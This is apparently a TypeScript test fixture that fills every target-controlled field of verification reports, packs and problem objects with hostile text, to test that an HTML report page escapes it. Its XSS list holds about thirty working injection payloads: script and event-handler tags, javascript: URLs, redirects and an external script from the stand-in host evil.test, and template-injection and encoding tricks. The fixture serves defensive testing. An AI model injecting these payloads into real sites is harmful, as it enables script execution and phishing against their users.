// Reports in which every field that a target or a stranger's pack controls holds one hostile text. Schemas would refuse some: a page must not rely on it.
import type { Check, Exchange, Pack, PinnedVerificationReport, Problem, Verdict } from '../../../src/contract/generated/types.ts';
import type { LiveRun } from '../../../src/report/html/live-page.ts';
import type { ReportPageOptions } from '../../../src/report/html/report-page-options.ts';
import * as sample from '../sample.ts';

export const XSS = [
  '<script>window.pwned=1</script>',
  '"><script src="https://evil.test/x.js"></script>',
  "'><img src=x onerror=window.pwned=1>",
  '<svg onload=window.pwned=1>',
  '" onmouseover="window.pwned=1" autofocus onfocus="window.pwned=1" x="',
  '</title><script>window.pwned=1</script>',
  '</style><script>window.pwned=1</script>',
  '</pre></code></textarea></noscript></template><iframe src="https://evil.test/">',
  '<!--<script>--><script>window.pwned=1</script>',
  '<meta http-equiv="refresh" content="0;url=https://evil.test/">',
  '<base href="https://evil.test/"><link rel="stylesheet" href="https://evil.test/x.css">',
  '<form action="https://evil.test/"><button autofocus>',
  'javascript:window.pwned=1',
  'JaVaScRiPt:window.pwned=1//',
  'java\tscript:window.pwned=1',
  'data:text/html,<script>window.pwned=1</script>',
  'https://evil.test/"onclick="window.pwned=1',
  'https://user:secret@evil.test/',
  '//evil.test/x',
  '/\\evil.test/x',
  'https://evil.test/\u202egpj.exe',
  '`$'.concat('{window.pwned=1}`'),
  '{{constructor.constructor("window.pwned=1")()}}',
  '&lt;script&gt;window.pwned=1&lt;/script&gt;',
  '&#x3c;img src=x onerror=window.pwned=1&#x3e;',
  '<math><mi//xlink:href="data:x,<script>window.pwned=1</script>">',
  '\u0000<scr\u0000ipt>window.pwned=1</script>',
  '__proto__',
  'x'.repeat(3_000),
  '\ud800<b>',
];

const check = (text: string, base: Check, i: number): Check => ({
  ...base,
  id: i === 0 ? text : base.id,
  title: text,
  reason: { code: text, text },
  evidence: [text],
  findings: [
    {
      code: text,
      level: 'must',
      message: text,
      place: text,
      keyword: text,
      value: text,
      request: { method: i % 2 ? text : 'GET', url: text },
      operation: text,
      claimedBy: text,
      more: 2,
    },
  ],
});

const exchange = (text: string): Exchange => ({
  names: [text],
  request: { method: 'POST', url: text, headers: { [text]: text, accept: text }, body: text },
  bytes: 1,
  redirects: [{ url: text, answer: { status: 302, headers: { location: text } } }],
  url: text,
  answer: { status: 200, headers: { 'content-type': text }, body: { text } },
});

const getting = (text: string): Exchange => ({ ...exchange(text), request: { method: 'GET', url: text, headers: {} }, redirects: [] });

export function hostileReport(raw: string): { report: PinnedVerificationReport; pack: Pack; options: ReportPageOptions } {
  // A report is canonical JSON, which has no lone surrogates.
  const text = Buffer.from(raw, 'utf8').toString('utf8');
  const rules = sample.pack.rules.map((rule) => ({
    ...rule,
    title: text,
    why: text,
    fix: `${text}\n\n\`\`\`js\n${text}\n\`\`\`\n- ${text}`,
    refs: [text],
  }));
  const pack: Pack = { ...sample.pack, name: text, version: text, title: text, rules };
  const ref = { name: text, version: text, digest: text };
  const verdict: Verdict = {
    ...sample.verdict,
    target: text,
    engine: text,
    pack: ref,
    caps: [{ check: text, grade: 'C' }],
    checks: sample.verdict.checks.map((base, i) => check(text, base, i)),
    next: { grade: 'C', fix: [text, 'second'] },
  };
  const report: PinnedVerificationReport = {
    format: 1,
    kind: 'PinnedVerificationReport',
    passed: false,
    verdict: { ...verdict, spec: ref, ratified: false, passed: false },
    verdictDigest: text,
    evidence: { ...sample.evidence, target: text, digest: text, exchanges: [exchange(text), getting(text)] },
    issued: { at: text, by: text, version: text, mode: 'attested-remote', seedOrigin: 'fresh' },
    attestation: { payloadType: 'application/vnd.in-toto+json', payload: text, signatures: [{ keyid: text, sig: text }] },
  };
  const options = { url: text, reportUrl: text, evidenceUrl: text, proofUrl: text, packUrl: text, cardUrl: text };
  return { report, pack, options };
}

export function hostileRun(text: string): LiveRun {
  const { report, pack } = hostileReport(text);
  return { id: text, target: text, pack, state: 'failed', settled: report.verdict.checks };
}

export const hostileProblem = (text: string): Problem => ({
  type: text,
  status: 400,
  title: text,
  detail: `${text} `,
  code: text,
  fix: text,
  errors: [text],
  lastReport: text,
});
